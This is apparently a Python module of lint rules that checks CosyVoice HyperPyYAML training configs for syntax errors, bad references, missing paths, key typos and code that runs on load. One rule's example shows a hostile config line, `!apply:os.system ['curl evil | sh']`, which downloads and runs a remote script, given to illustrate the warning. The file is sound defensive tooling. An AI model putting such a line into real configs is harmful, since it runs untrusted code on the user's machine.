"""Lint rules CX0xx (the file itself: syntax, duplicates, refs, code run on load) and CX5xx (keys, paths)."""

from __future__ import annotations

import difflib
import os
from pathlib import Path
from typing import Iterator

from cosyvoice_ext.lint import Issue, LintContext, Rule
from cosyvoice_ext.lint.document import REF, RefError
from cosyvoice_ext.lint.yamlpos import YMap, YScalar, walk

# Top-level keys of upstream's CosyVoice/CosyVoice2/CosyVoice3 configs (+ our section): typo targets.
KNOWN_TOP = (
    "sample_rate", "text_encoder_input_size", "llm_input_size", "llm_output_size", "spk_embed_dim",
    "qwen_pretrain_path", "token_frame_rate", "token_mel_ratio", "llm", "flow", "hift", "hifigan",
    "mel_spec_transform1", "parquet_opener", "get_tokenizer", "allowed_special", "tokenize", "filter",
    "resample", "truncate", "feat_extractor", "compute_fbank", "compute_f0", "pitch_extractor",
    "parse_embedding", "shuffle", "sort", "batch", "padding", "data_pipeline", "data_pipeline_gan",
    "train_conf", "train_conf_gan", "cosyext",
    # the 2026 upstream (CosyVoice3 recipe, online features)
    "chunk_size", "num_decoding_left_chunks", "compute_whisper_fbank",
)
TRAIN_CONF_REQUIRED = ("optim", "optim_conf", "scheduler", "scheduler_conf", "max_epoch", "grad_clip",
                       "accum_grad", "log_interval", "save_per_step")
TRAIN_CONF_KNOWN = TRAIN_CONF_REQUIRED + ("optim_d", "optim_conf_d", "scheduler_d", "scheduler_conf_d")
SAFE_APPLY = {"random.seed", "numpy.random.seed", "torch.manual_seed", "torch.cuda.manual_seed_all"}


def _syntax(ctx: LintContext) -> Iterator[Issue]:
    for p in ctx.doc.parsed.problems:
        if p.kind in ("syntax", "not-mapping"):
            yield Issue(p.message, at=p.pos, fix="fix the YAML so that it parses; `python -c \"import yaml,sys; "
                        "yaml.compose(open(sys.argv[1]))\" FILE` shows the same error")


def _duplicates(ctx: LintContext) -> Iterator[Issue]:
    for p in ctx.doc.parsed.problems:
        if p.kind == "duplicate":
            yield Issue(p.message, at=p.pos, fix="keep one of the two definitions")


def _refs(ctx: LintContext) -> Iterator[Issue]:
    for _, node in walk(ctx.doc.root):
        if isinstance(node, YScalar) and node.tag in ("!ref", "!copy"):
            refs = REF.findall(node.raw)
            if not refs:
                yield Issue(f"{node.tag} '{node.raw}' has no <key> to refer to", at=node,
                            fix="write it as !ref <key> (or <a.b> for a nested key)")
            for ref in refs:
                try:
                    ctx.doc.ref_target(ref)
                except RefError:
                    top = ref.split(".")[0].split("[")[0].strip()
                    close = difflib.get_close_matches(top, ctx.doc.root.keys(), n=1, cutoff=0.6)
                    yield Issue(f"!ref <{ref}> does not resolve: no key '{ref}' in this config", at=node,
                                fix=f"did you mean <{close[0]}>?" if close else "define the key or fix the reference")


def _apply(ctx: LintContext) -> Iterator[Issue]:
    for _, node in walk(ctx.doc.root):
        call = node.call
        if call and call[0] in ("apply", "module") and call[1] not in SAFE_APPLY:
            yield Issue(f"!{call[0]}:{call[1]} runs Python code whenever this config is loaded "
                        "(cosyext lint only reads it)", at=node,
                        fix="make sure you trust this line; seeding calls like !apply:random.seed are the usual use")


def _top_typos(ctx: LintContext) -> Iterator[Issue]:
    keys = ctx.doc.root.keys()
    for k, _ in ctx.doc.root.items:
        if not isinstance(k, YScalar) or k.raw in KNOWN_TOP or k.raw.startswith("__"):
            continue
        close = [c for c in difflib.get_close_matches(k.raw, KNOWN_TOP, n=1, cutoff=0.75) if c not in keys]
        if close:
            yield Issue(f"unknown top-level key '{k.raw}'; did you mean '{close[0]}'?", at=k,
                        fix=f"rename it to {close[0]} (upstream silently ignores unknown keys)")
    tc = ctx.doc.deref(ctx.doc.root.get("train_conf"))
    if isinstance(tc, YMap):
        for k, _ in tc.items:
            if isinstance(k, YScalar) and k.raw not in TRAIN_CONF_KNOWN:
                close = difflib.get_close_matches(k.raw, TRAIN_CONF_KNOWN, n=1, cutoff=0.75)
                if close and close[0] not in tc.keys():
                    yield Issue(f"unknown train_conf key '{k.raw}'; did you mean '{close[0]}'?", at=k,
                                fix=f"rename it to {close[0]}")


def _train_conf_keys(ctx: LintContext) -> Iterator[Issue]:
    root = ctx.doc.root
    tc_key = root.key_node("train_conf")
    tc = ctx.doc.deref(root.get("train_conf"))
    if tc_key is None:
        if any(m in ctx.models() for m in ("llm", "flow")):
            yield Issue("no train_conf section: upstream train.py reads configs['train_conf'] and fails", at=root.start,
                        fix="add a train_conf section (optim, optim_conf, scheduler, scheduler_conf, max_epoch, "
                            "grad_clip, accum_grad, log_interval, save_per_step)")
        return
    if not isinstance(tc, YMap):
        yield Issue("train_conf must be a mapping", at=tc_key)
        return
    missing = [k for k in TRAIN_CONF_REQUIRED if tc.get(k) is None]
    if missing:
        yield Issue(f"train_conf lacks {', '.join(missing)}: upstream's optimizer/executor code indexes these keys",
                    at=tc_key, fix="add " + ", ".join(f"{k}: ..." for k in missing))


def _model_section(ctx: LintContext) -> Iterator[Issue]:
    if ctx.model in ("llm", "flow", "hift") and ctx.doc.root.get(ctx.model) is None:
        yield Issue(f"--model {ctx.model} but the config defines no top-level '{ctx.model}:' model",
                    at=ctx.doc.root.start, fix=f"add the {ctx.model} model section or train another model")


PATH_KEYS = ("qwen_pretrain_path", "token_path", "pretrain_path", "model_dir", "path")


def _paths(ctx: LintContext) -> Iterator[Issue]:
    override = ctx.options.get("qwen_pretrain_path")
    for keypath, node in walk(ctx.doc.root):
        if not keypath or not isinstance(keypath[-1], str) or not isinstance(node, YScalar) or node.tag:
            continue
        name = keypath[-1]
        if not (name in PATH_KEYS or name.endswith("_path") or name.endswith("_dir")):
            continue
        value = node.value
        if name == "qwen_pretrain_path" and override:
            value = override
        if not isinstance(value, str) or not value:
            continue
        candidates = [Path(os.path.expanduser(value))]
        if not candidates[0].is_absolute():
            candidates.append(ctx.doc.dir / value)
        if not any(c.exists() for c in candidates):
            hint = ("pass the real directory to train.py with --qwen_pretrain_path (it overrides this key) and to "
                    "lint with --qwen-pretrain-path" if name == "qwen_pretrain_path" else "fix the path")
            yield Issue(f"{'.'.join(map(str, keypath))}: path '{value}' does not exist", at=node, fix=hint)


RULES = [
    Rule("CX001", "yaml-syntax", "error", "The file is not valid YAML (or not a mapping).", _syntax,
         why="HyperPyYAML cannot load it, so training fails before doing anything.",
         example="train_conf:\n  optim: adam\n   lr: 1e-5   # bad indentation",
         fix="Fix the YAML at the reported line and column."),
    Rule("CX002", "duplicate-key", "error", "A key is defined twice in the same mapping.", _duplicates,
         why="HyperPyYAML (ruamel) refuses duplicate keys; plain YAML readers silently keep the last one, "
             "so the value you edit may not be the one that counts.",
         example="filter: !name:cosyvoice.dataset.processor.filter\n  token_max_length: 200\n  token_max_length: 0",
         fix="Delete one of the definitions."),
    Rule("CX003", "unresolved-ref", "error", "A `!ref <key>` names a key the config does not define.", _refs,
         why="HyperPyYAML raises at load time; with a typo in a processor reference the whole pipeline fails.",
         example="data_pipeline: [!ref <parquet_openr>]",
         fix="Point the reference at an existing key (nested keys: <a.b>)."),
    Rule("CX004", "code-on-load", "warning", "`!apply:`/`!module:` runs arbitrary Python when the config is loaded.",
         _apply,
         why="Configs are code for HyperPyYAML; a shared config can run anything (`!apply:os.system`). "
             "Seeding calls (random.seed, numpy.random.seed, torch.manual_seed, torch.cuda.manual_seed_all) are allowed.",
         example="__hello: !apply:os.system ['curl evil | sh']",
         fix="Remove the line unless you wrote it and trust it."),
    Rule("CX501", "missing-path", "warning", "A path-like value (`*_path`, `*_dir`) does not exist.", _paths,
         why="Missing paths fail only after the model is built (minutes in), or, for the Qwen tokenizer, "
             "when the data loader starts.",
         example="qwen_pretrain_path: /data/pretrained/CosyVoice2-0.5B/CosyVoice-BlankEN-typo",
         fix="Fix the path; for qwen_pretrain_path pass --qwen_pretrain_path to train.py (it overrides the key)."),
    Rule("CX502", "key-typo", "warning", "An unknown top-level or train_conf key looks like a misspelled known key.",
         _top_typos,
         why="Upstream ignores unknown keys, so `trian_conf:` or `acum_grad:` silently does nothing.",
         example="train_conf:\n  acum_grad: 4", fix="Rename the key to the suggestion."),
    Rule("CX503", "train-conf-keys", "error", "train_conf is missing or lacks keys upstream's training code reads.",
         _train_conf_keys,
         why="init_optimizer_and_scheduler and the executor index train_conf keys directly: a missing one is a "
             "KeyError after the model was built.",
         example="train_conf:\n  optim: adam", fix="Add the missing keys (see upstream's cosyvoice2.yaml)."),
    Rule("CX504", "model-section", "error", "`--model X` is given but the config has no `X:` model.", _model_section,
         why="train.py takes configs[args.model]; without it the run dies with a KeyError/None model.",
         example="# cosyext lint --model flow on a config without flow:", fix="Add the model or pick the right --model."),
]
